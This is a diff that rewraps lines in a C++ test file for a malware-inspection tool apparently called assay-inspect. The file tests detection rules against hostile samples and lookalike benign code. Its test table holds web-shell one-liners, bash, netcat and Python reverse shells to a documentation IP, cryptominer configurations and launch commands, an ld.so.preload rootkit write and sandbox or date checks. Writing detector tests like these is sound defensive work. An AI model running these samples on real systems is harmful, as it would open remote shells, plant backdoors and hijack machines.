@@ -1,5 +1,5 @@
-// The agent's end of assay-inspect: the real child with real rules, children that lie, die or keep silent, and
-// bounds.
+// The agent's end of assay-inspect: the real child with real rules, children that lie, die or keep silent,
+// and bounds.
 #include "agent/inspector.h"
 
 #include <fcntl.h>
@@ -81,7 +81,8 @@ TEST_F(InspectorTest, AnswersThatTheChildNeverGivesEndIt) {
 
 TEST_F(InspectorTest, FileThatKillsTheChildIsKnownByItAndTheNextIsInspected) {
   Inspector inspector(
-      child_that([](const inspect::Ask& ask) { return ask.id % 2 == 1 ? std::string() : good_answer(ask); }), {});
+      child_that([](const inspect::Ask& ask) { return ask.id % 2 == 1 ? std::string() : good_answer(ask); }),
+      {});
   EXPECT_EQ(ask(inspector), "(it killed the inspector)");
   EXPECT_EQ(ask(inspector), "text/plain");
   EXPECT_EQ(ask(inspector), "(it killed the inspector)");
@@ -173,40 +174,54 @@ struct Case {
 
 // Each rule on what it is meant for, and on what honest software has that looks like it.
 TEST_F(OwnRules, FindWhatTheyAreMeantForAndNotWhatLooksLikeIt) {
-  const std::string elf("\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0", 20);
+  const std::string elf(
+      "\x7f"
+      "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0",
+      20);
   const Case cases[] = {
       {"php shell", "<?php @eval($_POST['x']); ?>", "assay_webshell:php_web_shell"},
-      {"php shell, unpacked first", "<?php\nassert(base64_decode($_REQUEST['c']));", "assay_webshell:php_web_shell"},
+      {"php shell, unpacked first", "<?php\nassert(base64_decode($_REQUEST['c']));",
+       "assay_webshell:php_web_shell"},
       {"php that reads a request", "<?php $name = htmlspecialchars($_POST['x']); system('ls');", ""},
       {"packed php", "<?php eval(gzinflate(base64_decode('abc')));", "assay_webshell:php_packed_code"},
-      {"jsp shell", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "assay_webshell:jsp_web_shell"},
+      {"jsp shell", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
+       "assay_webshell:jsp_web_shell"},
       {"bash reverse shell", "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
        "assay_reverse_shell:shell_reverse_shell"},
       {"netcat with a shell", "#!/bin/sh\nnc 198.51.100.7 4444 -e /bin/sh\n",
        "assay_reverse_shell:shell_reverse_shell"},
-      {"a check for a port", "#!/bin/bash\n(echo > /dev/tcp/db/5432) 2>/dev/null && echo up\nnc -z db 5432\n", ""},
+      {"a check for a port", "#!/bin/bash\n(echo > /dev/tcp/db/5432) 2>/dev/null && echo up\nnc -z db 5432\n",
+       ""},
       {"python reverse shell",
-       "import socket,os,pty\ns=socket.socket()\ns.connect(('h',1))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\n"
+       "import socket,os,pty\ns=socket.socket()\ns.connect(('h',1))\n[os.dup2(s.fileno(),f) for f in "
+       "(0,1,2)]\n"
        "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
        "assay_reverse_shell:interpreter_reverse_shell"},
       {"python client", "import socket\ns=socket.socket()\ns.connect(('h',1))\n", ""},
       {"miner's configuration",
-       "{\"donate-level\": 1, \"pools\": [{\"algo\": \"rx/0\", \"user\": \"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt\"}]}",
+       "{\"donate-level\": 1, \"pools\": [{\"algo\": \"rx/0\", \"user\": "
+       "\"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt\"}]}",
        "assay_miner:mining_configuration"},
       {"another's configuration", "{\"pools\": [\"a\"], \"user\": \"somebody\"}", ""},
       {"miner's start", "#!/bin/sh\n./xmrig -o stratum+tcp://pool.example:3333 --donate-level=1\n",
        "assay_miner:mining_script"},
-      {"rivals", "#!/bin/sh\npkill -f kinsing\nchattr -ia /etc/ld.so.preload\n", "assay_bot:kills_rival_miners"},
-      {"preload", "#!/bin/sh\necho /usr/lib/libx.so > /etc/ld.so.preload\n", "assay_rootkit:names_preload_file"},
+      {"rivals", "#!/bin/sh\npkill -f kinsing\nchattr -ia /etc/ld.so.preload\n",
+       "assay_bot:kills_rival_miners"},
+      {"preload", "#!/bin/sh\necho /usr/lib/libx.so > /etc/ld.so.preload\n",
+       "assay_rootkit:names_preload_file"},
       {"date in shell", "#!/bin/sh\n[ \"$(date +%Y%m%d)\" -lt 20270101 ] && exit\n./x\n",
        "assay_hint:script_checks_date"},
       {"date in a variable", "#!/bin/sh\nnow=$(date +%s)\nif [ \"$now\" -lt 1798761600 ]; then exit; fi\n",
        "assay_hint:script_checks_date"},
-      {"date in double brackets", "#!/bin/bash\n[[ $(date +%Y) > 2026 ]] || exit\n", "assay_hint:script_checks_date"},
-      {"date in python", "import datetime\nif datetime.datetime.now() < datetime.datetime(2027,1,1): exit()\n",
+      {"date in double brackets", "#!/bin/bash\n[[ $(date +%Y) > 2026 ]] || exit\n",
        "assay_hint:script_checks_date"},
-      {"date that is printed", "#!/bin/sh\nnow=$(date +%s)\necho \"started at $(date)\"\nlog=/var/log/x-$(date +%F)\n"
-       "if [ $# -lt 1 ]; then exit 1; fi\n", ""},
+      {"date in python",
+       "import datetime\nif datetime.datetime.now() < datetime.datetime(2027,1,1): exit()\n",
+       "assay_hint:script_checks_date"},
+      {"date that is printed",
+       "#!/bin/sh\nnow=$(date +%s)\necho \"started at $(date)\"\nlog=/var/log/x-$(date +%F)\n"
+       "if [ $# -lt 1 ]; then exit 1; fi\n",
+       ""},
       {"time that is measured", "import time\nstart = time.time()\nprint(time.time() - start)\n", ""},
       {"gVisor", "#!/bin/sh\ndmesg | grep -q gVisor && exit 0\n", "assay_hint:script_looks_for_sandbox"},
       {"is it docker", "#!/bin/sh\n[ -f /.dockerenv ] && export IN_DOCKER=1\nexec nginx\n", ""},
